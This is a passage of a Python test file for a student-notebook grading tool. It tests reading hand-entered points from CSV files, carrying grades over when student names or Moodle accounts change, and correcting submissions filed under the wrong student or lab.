        pages.write_by_hand(records, table)
        [row] = [g for g in records.all_grades() if g.answer]
        assert (row.points, row.problem) == (2.5, "- no maximum")


def test_a_table_that_a_spreadsheet_saved(tmp_path):
    records, table = Records("sqlite://"), tmp_path / "by_hand.csv"
    one = Submission("ada", "02", tmp_path)
    records.write(one, result(one), "one")
    table.write_text('\ufeffstudent;lab;question;points;comment;answer\r\nada;2;2.6;1,5;good;"My\nanswer"\r\n')
    pages.read_by_hand(records, table)
    assert [g.points for g in records.all_grades() if g.answer] == [1.5]
    for data in (b"nonsense\nada,02,2.6,2,,\n", b"student,lab,question,points,comment,answer\nJos\xe9,02,2.6,2,,\n"):
        table.write_bytes(data)
        with pytest.raises(RefusalLabError, match="save it as"):
            pages.read_by_hand(records, table)


def test_points_by_hand_outlive_the_records(tmp_path, ungraded, monkeypatch):
    hand_in(tmp_path / "in", "ada/02.ipynb")
    monkeypatch.chdir(tmp_path)
    command = ["grade", "in", "--out", "out"]
    assert CliRunner().invoke(cli.app, command).exit_code == 0
    table = tmp_path / "out" / "by_hand.csv"
    table.write_text(table.read_text().replace("2.6,,", "2.6,2,"))
    (tmp_path / "out" / "grades.sqlite").unlink()
    assert CliRunner().invoke(cli.app, command).exit_code == 0
    assert by_hand(Records("sqlite:///out/grades.sqlite")) == {"ada": 2}


# --- records of an earlier run -------------------------------------------------------------------------------------


def earlier(tmp_path, student, path, account="", given=2.5, lab="02"):
    """The records of a run that knew a file by this student, with points given by hand."""
    records = Records(f"sqlite:///{tmp_path / 'grades.sqlite'}")
    one = Submission(student, lab, path, account)
    records.write(one, result(one), "old")
    records.write_points(student, lab, "2.6", given, "good")
    return records


def by_hand(records):
    return {g.student: g.points for g in records.all_grades() if g.answer}


@pytest.mark.parametrize(("old", "account", "name", "new"), [
    ("Participant", "101", f"Participant_101_{MOODLE}/02.ipynb", "Participant-101"),
    ("Ada Lovelace", "77", f"Ada Lovelace_77_{MOODLE}/02.ipynb", "Ada Lovelace-77"),
    ("adal", "12", "ada_12_13_02.ipynb", "ada-12"),
    ("hw", "", "ada/hw_04.ipynb", "ada"),
])  # fmt: skip
def test_rows_of_an_earlier_run_go_to_the_new_identity(tmp_path, ungraded, old, account, name, new):
    folder = tmp_path / "in"
    records = earlier(tmp_path, old, folder / name, account)
    hand_in(
        folder, name, name.replace("101", "102").replace("77", "78").replace("ada_12", "zoe_14").replace("ada/", "zoe/")
    )
    batch = grade_class(folder, records, 1)
    assert by_hand(records)[new] == 2.5
    assert old not in by_hand(records)
    assert len(by_hand(records)) == 2
    [line] = batch.carried
    assert line.startswith(f"{old}, lab 02, is {new} now.") and "grades.sqlite.old1" in line
    assert by_hand(Records(f"sqlite:///{tmp_path / 'grades.sqlite.old1'}")) == {old: 2.5}
    assert grade_class(folder, records, 1).carried == []
    assert records.write_points(old, "02", "2.6", 1, "")  # as in a table that was filled in before
    assert by_hand(records)[new] == 1


def test_a_download_to_another_folder_is_known_by_its_account(tmp_path, ungraded):
    records = earlier(tmp_path, "Participant", Path("elsewhere"), "102")
    hand_in(tmp_path / "in", f"Participant_101_{MOODLE}/02.ipynb", f"Participant_102_{MOODLE}/02.ipynb")
    grade_class(tmp_path / "in", records, 1)
    assert by_hand(records) == {"Participant-101": None, "Participant-102": 2.5}


def test_who_changes_a_name_keeps_the_account(tmp_path, ungraded):
    records = earlier(tmp_path, "lovelaceada-12", Path("elsewhere"), "12")
    hand_in(tmp_path / "in", "byronada_12_13_02.ipynb")
    assert grade_class(tmp_path / "in", records, 1).carried[0].startswith("lovelaceada-12, lab 02, is byronada-12 now.")
    assert by_hand(records) == {"byronada-12": 2.5}


def test_another_name_under_a_number_of_moodle_may_be_another_person(tmp_path, ungraded):
    records = earlier(tmp_path, "Ada-12", Path("elsewhere"), "12")
    hand_in(tmp_path / "in", f"Bob_12_{MOODLE}/02.ipynb")
    assert grade_class(tmp_path / "in", records, 1).carried == []
    assert by_hand(records) == {"Ada-12": 2.5, "Bob-12": None}


def test_what_was_taken_for_another_is_graded_again_or_taken_out(tmp_path, ungraded):
    forged = tmp_path / "in" / "mallory" / "02" / "bob" / "02" / "02.ipynb"
    records = earlier(tmp_path, "bob", forged)
    hand_in(tmp_path / "in", "mallory/02/bob/02/02.ipynb", "bob/02/02.ipynb")
    grade_class(tmp_path / "in", records, 1)
    files = {row.student: row.file for row in records.all_submissions()}
    assert files == {"bob": str(tmp_path / "in/bob/02/02.ipynb"), "mallory": str(forged)}


def test_a_row_under_a_wrong_lab_is_taken_out_and_kept_in_a_copy(tmp_path, ungraded):
    path = tmp_path / "in" / "s_04" / "02_the_refusal_direction.ipynb"
    records = earlier(tmp_path, "02_the_refusal_direction", path, lab="04")
    hand_in(tmp_path / "in", "s_04/02_the_refusal_direction.ipynb")
    [line] = grade_class(tmp_path / "in", records, 1).carried
    assert "was taken out: its file is s_04's, lab 02" in line
    assert {(row.student, row.lab) for row in records.all_submissions()} == {("s_04", "02")}
    kept = Records(f"sqlite:///{tmp_path / 'grades.sqlite.old1'}")
    assert [row.lab for row in kept.all_submissions()] == ["04"]
    assert records.write_points("02_the_refusal_direction", "04", "4.6", 1, "")  # a line for it stops no run


def test_a_row_that_cannot_be_carried_over_stays_where_no_copy_can_be_made(tmp_path, ungraded):
    records = Records("sqlite://")
    path = tmp_path / "in" / "s_04" / "02.ipynb"
    old = Submission("02", "04", path)
    records.write(old, Graded("02", "04", []), "old")
    hand_in(tmp_path / "in", "s_04/02.ipynb")
    [line] = grade_class(tmp_path / "in", records, 1).carried
    assert "Remove that row" in line
    assert {(row.student, row.lab) for row in records.all_submissions()} == {("02", "04"), ("s_04", "02")}


def test_points_filled_in_under_an_old_name_are_taken_over_by_the_command(tmp_path, ungraded, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "out").mkdir()
    name = f"in/Participant_101_{MOODLE}/02.ipynb"
    earlier(tmp_path / "out", "Participant", Path(name), "101", given=None)
    (tmp_path / "out" / "by_hand.csv").write_text(
        "student,lab,question,points,comment,answer\nParticipant,02,2.6,2.5,well done,My answer\n"
    )
    hand_in(tmp_path, name, name.replace("101", "102"))
    said = CliRunner().invoke(cli.app, ["grade", "in", "--out", "out"])
    assert said.exit_code == 0, said.output
    assert "Participant, lab 02, is Participant-101 now." in said.output
    assert "is Participant-101 now" in (tmp_path / "out" / "overview.html").read_text()
    assert by_hand(Records("sqlite:///out/grades.sqlite")) == {"Participant-101": 2.5, "Participant-102": None}
    assert "Participant-101,02,2.6,2.5,well done" in (tmp_path / "out" / "by_hand.csv").read_text()
